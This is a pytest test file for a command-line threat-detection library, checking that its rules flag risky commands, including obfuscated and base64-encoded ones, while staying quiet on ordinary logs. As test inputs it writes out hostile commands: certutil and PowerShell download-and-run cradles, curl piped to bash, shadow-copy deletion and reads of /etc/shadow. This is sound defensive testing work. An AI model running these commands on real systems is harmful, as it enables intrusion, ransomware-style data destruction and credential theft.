"""Risky command lines: each built-in rule on its own examples, and all of them on real logs."""

import base64
import json
from pathlib import Path

import pandas as pd
import polars as pl
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

import huntkit
from huntkit.core.errors import SettingsError, UnknownColumn, UsageError
from huntkit.extract import command_risks
from huntkit.extract.command_rules import built_in_rules

DATA = Path(__file__).parents[1] / "data/extract/risky_commands"
EXAMPLES = {
    rule: texts
    for path in sorted(DATA.glob("*.yaml"))
    for rule, texts in yaml.safe_load(path.read_text(encoding="utf-8")).items()
}
WORTH_A_LOOK = ("medium", "high", "critical")


def rules_in(line: str, **options) -> list[str]:
    return command_risks(line, **options)["Rule"].to_list()


@pytest.fixture(scope="module")
def hits() -> dict[tuple[str, str, str], bool]:
    """Whether a rule finds an example: all are looked at in one go."""
    asked = [
        (rule, kind, line)
        for rule, texts in EXAMPLES.items()
        for kind in ("hits", "misses")
        for line in texts[kind]
    ]
    frame = pl.DataFrame({"CommandLine": [line for _, _, line in asked]})
    found = set(command_risks(frame).select("SourceIndex", "Rule").rows())
    return {each: (place, each[0]) in found for place, each in enumerate(asked)}


def test_every_rule_has_examples_and_every_example_a_rule():
    assert set(EXAMPLES) == {rule.id for rule in built_in_rules()}
    for rule, texts in EXAMPLES.items():
        assert set(texts) == {"hits", "misses"}, rule
        assert len(set(texts["hits"])) >= 2, rule
        assert len(set(texts["misses"])) >= 2, rule


@pytest.mark.parametrize("rule", EXAMPLES)
def test_the_rule_finds_what_it_is_for_and_nothing_like_it(rule, hits):
    for line in EXAMPLES[rule]["hits"]:
        assert hits[rule, "hits", line], f"{rule} must find: {line}"
    for line in EXAMPLES[rule]["misses"]:
        assert not hits[rule, "misses", line], f"{rule} must not find: {line}"


@pytest.mark.parametrize(
    "line",
    [
        "certutil.exe -urlcache -f http://files.example/a a",
        "c^e^r^t^u^t^i^l -URLcache -f http://files.example/a a",
        'cert""util "-url""cache" -f http://files.example/a a',
        "set c=certutil&& %c% -urlcache -f http://files.example/a a",
        "\uff43\uff45\uff52\uff54util \u2013urlcache -f http://files.example/a a",
        'cmd /c "  CERTUTIL\t-f\n-urlcache http://files.example/a "',
    ],
)
def test_spelling_does_not_hide_a_command(line):
    assert "certutil_download" in rules_in(line)


def test_decoded_commands_are_matched_too():
    # IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') in base64 of UTF-16
    text = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
    line = "powershell -enc " + base64.b64encode(text.encode("utf-16-le")).decode()
    found = pl.from_pandas(command_risks(line)).filter(pl.col("Depth") > 0)
    assert {"powershell_download_and_run", "powershell_download"} <= set(found["Rule"])
    assert found["Encoding"].str.contains("base64").all()
    assert not command_risks(line, decoded=False)["Depth"].any()
    hidden = base64.b64encode(b"curl -s http://203.0.113.9/i.sh | bash -s -- --quiet").decode()
    assert "download_to_shell" in rules_in(f"echo {hidden} | base64 -d | sh")


def test_a_shell_alone_is_not_risky():
    for line in ("/bin/bash", "/bin/bash -c ls", "bash script.sh", "sh", "-bash", "cmd.exe", "cmd"):
        assert rules_in(line) == []


def test_columns_order_and_what_is_carried_along():
    frame = pl.DataFrame({
        "n": [1, 2, 3], "CommandLine": ["systeminfo", None, "vssadmin delete shadows & whoami"],
    })  # fmt: skip
    found = command_risks(frame, keep=["n"])
    assert found.select("Rule", "Severity", "SourceIndex", "n").rows() == [
        ("host_discovery", "low", 0, 1),
        ("shadow_copies_deleted", "critical", 2, 3),
        ("who_am_i", "low", 2, 3),
    ]
    (row,) = found.filter(pl.col("Rule") == "shadow_copies_deleted").to_dicts()
    assert row["Technique"] == "T1490"
    assert row["Tactic"] == "impact"
    assert row["Matched"] == "vssadmin delete shadows"
    assert row["Depth"] == 0
    assert row["Input"] == "vssadmin delete shadows & whoami"
    assert row["input_column"] == "CommandLine"
    assert "restored" in row["Why"]


def test_the_input_is_not_changed_and_equal_lines_have_equal_rows():
    frame = pd.DataFrame({"Command": ["cat /etc/shadow", "ls", "cat /etc/shadow"]}, index=[7, 8, 9])
    before = frame.copy()
    found = command_risks(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert found["SourceIndex"].to_list() == [7, 9]


def test_levels_can_be_left_out():
    assert rules_in("systeminfo & vssadmin delete shadows", lowest="medium") == [
        "shadow_copies_deleted"
    ]
    with pytest.raises(UsageError, match="critical"):
        command_risks("x", lowest="severe")


def test_own_rules(tmp_path):
    path = tmp_path / "mine.yaml"
    path.write_text(
        "- {id: mine, title: Mine, why: It is ours., level: high, technique: T1059,"
        " tactic: execution, program: [ourtool]}"
    )
    assert rules_in("C:\\x\\OurTool.exe -a & systeminfo", rules=path) == ["mine"]
    with pytest.raises(SettingsError):
        command_risks("x", rules=tmp_path / "no.yaml")


def test_wrong_columns_are_told():
    frame = pl.DataFrame({"a": ["x"], "Rule": ["y"]})
    with pytest.raises(UsageError, match="command line"):
        command_risks(frame)
    with pytest.raises(UnknownColumn):
        command_risks(frame, "b")
    with pytest.raises(UnknownColumn, match="rename"):
        command_risks(frame, "a", keep=["Rule"])


@pytest.mark.parametrize("values", [[], [None], ["", None], [1, 2], [["a"], None]])
def test_empty_and_odd_columns_give_no_rows(values):
    frame = pl.DataFrame({"cmd": values})
    found = command_risks(frame, "cmd")
    assert found.height == 0
    assert found.schema["SourceIndex"] == pl.Int64


@settings(max_examples=25)
@given(
    st.lists(
        st.none()
        | st.text(max_size=40)
        | st.lists(
            st.sampled_from(["curl ", "http://a.example/", "|", " sh", "-enc ", "^", "'", '"', "%",
                             "cmd /c ", "/tmp/x", "$(", "QUFBQUFBQUFBQUFB", "\u202e", "reg add "]),
            max_size=12,
        ).map("".join),
        max_size=6,
    )
)  # fmt: skip
def test_any_lines_are_taken_and_each_row_stands_for_itself(lines):
    frame = pl.DataFrame({"cmd": lines}, schema={"cmd": pl.String})
    found = command_risks(frame, "cmd")
    assert found.select(pl.struct("SourceIndex", "Rule").is_duplicated().any()).item() is not True
    for place, line in enumerate(lines):
        alone = command_risks(frame[place : place + 1], "cmd")["Rule"].to_list()
        assert found.filter(pl.col("SourceIndex") == place)["Rule"].to_list() == alone
        assert found.filter(pl.col("SourceIndex") == place)["Input"].unique().to_list() in (
            [],
            [line],
        )


@pytest.mark.parametrize(
    "piece",
    ["a", " ", "^", "'", "curl http://", "| sh ", "powershell -e ", "reg add \\run ", "%a:~1%",
     "{a,", "net user ", "echo -e \\x41", "$(curl ", "A" * 50 + "=", "\u202e", "schtasks /tr "],
)  # fmt: skip
def test_a_long_line_of_anything_takes_no_quadratic_time(piece, hang_guard):
    with hang_guard():
        command_risks(pl.DataFrame({"cmd": [(piece * 400_000)[:400_000]]}), "cmd", decoded=False)


def worth_a_look(lines: list[str | None]) -> float:
    """The share of lines in which something of medium severity or more is found."""
    frame = pl.DataFrame({"cmd": lines}, schema={"cmd": pl.String}).drop_nulls()
    found = command_risks(frame, "cmd", lowest="medium")
    return found["SourceIndex"].n_unique() / frame.height


@pytest.mark.data
def test_everyday_logs_raise_nothing(shared_data):
    logs = shared_data / "logs"
    audit = huntkit.open(str(logs / "auditd_log.txt"), frame="polars", cache=False)
    assert worth_a_look(audit.table("DeviceProcessEvents")["ProcessCommandLine"].to_list()) == 0
    sudo = pl.read_csv(logs / "sudo_session_test.csv", infer_schema=False)
    assert worth_a_look([*sudo["Command"], *sudo["CommandCall"]]) == 0
    listed = (logs / "velociraptor/Windows.System.Pslist.json").read_text().splitlines()
    assert worth_a_look([json.loads(line)["CommandLine"] for line in listed]) == 0


@pytest.mark.data
def test_the_background_of_an_attacked_machine_stays_quiet(shared_data):
    """What Windows and its agents do beside the attack: programs in their usual folders."""
    frame = pl.read_csv(shared_data / "logs/mde_proc_cs1.csv", infer_schema=False)
    usual = frame.filter(
        pl.col("CreatedProcessName").is_in([
            "svchost.exe", "conhost.exe", "SearchProtocolHost.exe", "backgroundTaskHost.exe",
            "taskhostw.exe", "csc.exe", "cvtres.exe", "MsMpEng.exe", "MpCmdRun.exe", "dllhost.exe",
        ])
    )  # fmt: skip
    assert usual.height == 445
    assert worth_a_look(usual["CreatedProcessCommandLine"].to_list()) == 0


@pytest.mark.data
def test_simulated_attacks_are_found(shared_data):
    frame = pl.read_csv(shared_data / "logs/processes_on_host.csv", infer_schema=False)
    found = command_risks(frame, lowest="high")
    assert {
        "shadow_copies_deleted", "mimikatz", "mshta", "regsvr32_script", "certutil_download",
        "amsi_bypass", "powershell_download_and_run", "double_extension", "service_shell",
        "obfuscated_command", "miner", "wdigest_on",
    } <= set(found["Rule"])  # fmt: skip


@pytest.mark.data
def test_launchers_of_empire_are_found_in_what_they_hide(windows_events):
    lines = [text for text in windows_events.texts if " -enc " in text and len(text) < 20_000]
    found = command_risks(pl.DataFrame({"cmd": lines}), "cmd").filter(pl.col("Depth") > 0)
    assert {"amsi_bypass", "powershell_download_and_run"} <= set(found["Rule"])


def test_spark_gives_the_same_rows(spark):
    lines = ["unset HISTFILE", None, "ls", "certutil -urlcache -f http://203.0.113.9/a a"]
    frame = pl.DataFrame({"n": [1, 2, 3, 4], "CommandLine": lines})
    given = spark.createDataFrame(frame.to_arrow(compat_level=pl.CompatLevel.oldest()))
    found = pl.from_arrow(command_risks(given, keep=["n"]).toArrow()).sort("n", "Rule")
    wanted = command_risks(frame, keep=["n"]).sort("n", "Rule")
    assert found["SourceIndex"].null_count() == found.height  # rows of Spark have no position
    assert found.drop("SourceIndex").rows() == wanted.drop("SourceIndex").rows()
